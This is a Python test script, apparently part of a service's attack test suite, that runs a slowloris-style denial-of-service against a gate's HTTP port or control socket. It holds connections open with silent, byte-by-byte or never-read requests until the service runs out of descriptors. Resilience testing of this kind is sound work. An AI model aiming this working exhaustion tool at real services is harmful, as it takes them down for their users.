"""Anybody who reaches the gate's HTTP door or its socket, without a token, wants its calls refused.

Opens connections that say nothing, that send a header a byte at a time, or that never read what they asked for, until
the gate has no descriptor left for a call; keeps them for some seconds, and opens new ones for those that are closed.

    python -m tests.attack.slowloris 127.0.0.1:8080 --connections 1500 --seconds 10
    python -m tests.attack.slowloris /run/dialgate/control.sock --connections 1500 --seconds 10

Prints ``{"opened": …}`` when it has tried all of them once, and at the end ``opened``, ``held`` (the most that were
open at one moment, as far as this side can tell) and ``closed`` (those that the gate closed).
"""

from __future__ import annotations

import argparse
import itertools
import json
import resource
import selectors
import socket
import sys
import time
from collections.abc import Sequence

WORDS = (
    b"",
    b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ",
    b"POST /v1/decision HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 9999\r\n\r\n{",
    b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 50,
    b"POST /v1/op/status HTTP/1.1\r\nHost: gate\r\nContent-Length: 9999\r\n\r\n{",
)
DRIP_SECONDS = 0.5
FAILURES = 3
"""So often the gate may not take a connection before the crowd is as large as it gets."""


class Crowd:
    """Many slow connections."""

    def __init__(self, where: str) -> None:
        self._where = where
        self._words = itertools.cycle(WORDS)
        self._open: set[socket.socket] = set()
        self._selector = selectors.DefaultSelector()
        self.opened = self.closed = self.held = 0

    def __len__(self) -> int:
        return len(self._open)

    def add(self) -> bool:
        """One more; False where the gate takes none now."""
        unix = "/" in self._where
        sock = socket.socket(socket.AF_UNIX if unix else socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.settimeout(1.0)
            if unix:
                sock.connect(self._where)
            else:
                host, _, port = self._where.rpartition(":")
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
                sock.connect((host, int(port)))
        except OSError:
            sock.close()
            return False
        sock.setblocking(False)
        self._open.add(sock)
        self._selector.register(sock, selectors.EVENT_READ)
        self.opened += 1
        self.held = max(self.held, len(self._open))
        try:
            sock.send(next(self._words))
        except OSError:
            self._drop(sock)
        return True

    def drip(self) -> None:
        """A byte more on each, and away with those that the gate has closed."""
        for key, _ in self._selector.select(0):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                gone = not sock.recv(1)  # one byte at a time: it does not read what it asked for
            except BlockingIOError:
                gone = False
            except OSError:
                gone = True
            if gone:
                self._drop(sock)
        for sock in list(self._open):
            try:
                sock.send(b"a")
            except BlockingIOError:
                pass
            except OSError:
                self._drop(sock)

    def _drop(self, sock: socket.socket) -> None:
        if sock in self._open:
            self._open.discard(sock)
            self._selector.unregister(sock)
            sock.close()
            self.closed += 1


def main(argv: Sequence[str]) -> int:
    """Run it; 0."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("where", help="ADDRESS:PORT, or the path of the control socket")
    parser.add_argument("--connections", type=int, default=1500)
    parser.add_argument("--seconds", type=float, default=10.0)
    asked = parser.parse_args(argv)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    crowd, end = Crowd(asked.where), time.monotonic() + asked.seconds
    failed = 0
    for _ in range(asked.connections):
        failed += not crowd.add()
        if failed > FAILURES:
            break
    print(json.dumps({"opened": crowd.opened}), flush=True)
    while time.monotonic() < end:
        crowd.drip()
        for _ in range(asked.connections - len(crowd)):
            if not crowd.add():
                break
        time.sleep(DRIP_SECONDS)
    print(json.dumps({"opened": crowd.opened, "held": crowd.held, "closed": crowd.closed}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
